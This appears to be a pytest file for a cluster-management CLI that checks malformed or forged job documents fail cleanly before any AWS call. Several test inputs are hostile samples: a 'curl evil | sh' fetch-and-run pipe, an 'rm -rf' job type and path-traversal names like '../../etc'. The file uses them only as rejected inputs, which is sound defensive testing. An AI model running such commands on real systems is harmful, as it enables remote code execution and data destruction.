"""A job document with bad parameters fails with a clear reason before any AWS call."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest

from goman.jobs.plan import SCALE_STEPS
from tests.conftest import BUCKET

PREFIX = "state/default/"


def _ec2_requests(sandbox: Any) -> tuple[list[str], Any]:
    seen: list[str] = []

    def record(environ: dict[str, Any], start: Any) -> None:
        if "/ec2/aws4_request" in environ.get("HTTP_AUTHORIZATION", ""):
            seen.append(environ["PATH_INFO"])

    return seen, record


def _rewrite(s3: Any, key: str, change: Any) -> None:
    data = json.loads(s3.get_object(Bucket=BUCKET, Key=key)["Body"].read())
    change(data)
    s3.put_object(Bucket=BUCKET, Key=key, Body=json.dumps(data).encode())


def _scale(job: dict[str, Any]) -> None:
    job["type"] = "scale"
    job["steps"] = [{"name": n} for n in SCALE_STEPS]
    job["params"] = {"workers": 1000}


CASES = {
    "negative ready_timeout": (lambda j: j["params"].update(ready_timeout=-5), "ready_timeout"),
    "absurd ready_timeout": (lambda j: j["params"].update(ready_timeout=1e9), "ready_timeout"),
    "ready_timeout of a bad type": (
        lambda j: j["params"].update(ready_timeout="soon"),
        "ready_timeout",
    ),
    "unknown key": (lambda j: j["params"].update(run="curl evil | sh"), "run"),
    "bad cluster name": (lambda j: j.update(cluster="../../x"), "invalid cluster name"),
    "workers out of range": (_scale, "workers"),
    "foreign node to replace": (
        lambda j: j.update(
            steps=[{"name": "replace-failed"}, *j["steps"]],
            params={"replace": [{"node": "other-server-0", "instance_id": "i-0123456789abcdef0"}]},
        ),
        "another cluster",
    ),
}


@pytest.mark.parametrize("case", list(CASES))
def test_a_bad_job_fails_before_its_first_aws_call(
    case: str, goman: Any, s3: Any, sandbox: Any
) -> None:
    queued = goman("cluster", "create", "web", "--detach")
    assert queued.exit_code == 0, queued.output
    job_id = queued.stdout.strip()
    change, reason = CASES[case]

    def entry(q: dict[str, Any]) -> None:
        e = q["jobs"][job_id]
        view = {k: e[k] for k in ("type", "cluster", "params")} | {
            "steps": [{"name": n} for n in e["steps"]]
        }
        change(view)
        e.update(type=view["type"], cluster=view["cluster"], params=view["params"])
        e["steps"] = [s["name"] for s in view["steps"]]

    _rewrite(s3, f"{PREFIX}jobs/{job_id}.json", change)
    _rewrite(s3, f"{PREFIX}queue.json", entry)

    seen, record = _ec2_requests(sandbox)
    sandbox.app.hooks.append(record)
    try:
        ran = goman("worker", "--once")
    finally:
        sandbox.app.hooks.remove(record)
    assert ran.exit_code == 0, ran.output
    assert seen == []  # not one EC2 request
    shown = goman("jobs", "show", job_id, "-o", "json").json()
    assert shown["status"] == "failed" and reason in shown["error"], shown["error"]


def test_a_broken_job_document_ends_failed_and_does_not_stop_the_others(
    goman: Any, s3: Any
) -> None:
    first = goman("cluster", "create", "bad", "--detach").stdout.strip()
    second = goman("cluster", "create", "web", "--detach", "--timeout", "60s").stdout.strip()
    assert first and second
    _rewrite(s3, f"{PREFIX}jobs/{first}.json", lambda j: j.update(type="rm -rf"))
    ran = goman("worker", "--once")
    assert ran.exit_code == 0, ran.output
    assert goman("cluster", "get", "web", "-o", "json").json()["phase"] == "Running"
    listed = {j["id"]: j for j in goman("jobs", "list", "-o", "json").json()}
    assert listed[first]["status"] == "failed" and "invalid" in listed[first]["error"]


def test_a_forged_queue_entry_is_refused_until_reindexed(goman: Any, s3: Any) -> None:
    queued = goman("cluster", "create", "web", "--detach", "--timeout", "60s")
    job_id = queued.stdout.strip()

    def forge(q: dict[str, Any]) -> None:
        q["jobs"]["../../etc"] = dict(q["jobs"][job_id], id="../../etc")

    _rewrite(s3, f"{PREFIX}queue.json", forge)
    for args in (("worker", "--once"), ("jobs", "list")):
        res = goman(*args)
        assert res.exit_code == 1 and "queue.json" in res.stderr, res.output
        assert "Traceback" not in res.output and "Unexpected" not in res.output
    # The fix it names brings the last good version back.
    fix = re.search(r"`goman (state restore queue.json --version \S+)`", res.stderr)
    assert fix is not None, res.stderr
    assert goman(*fix.group(1).split(), "--yes").exit_code == 0
    assert goman("worker", "--once").exit_code == 0
    assert goman("cluster", "get", "web", "-o", "json").json()["phase"] == "Running"
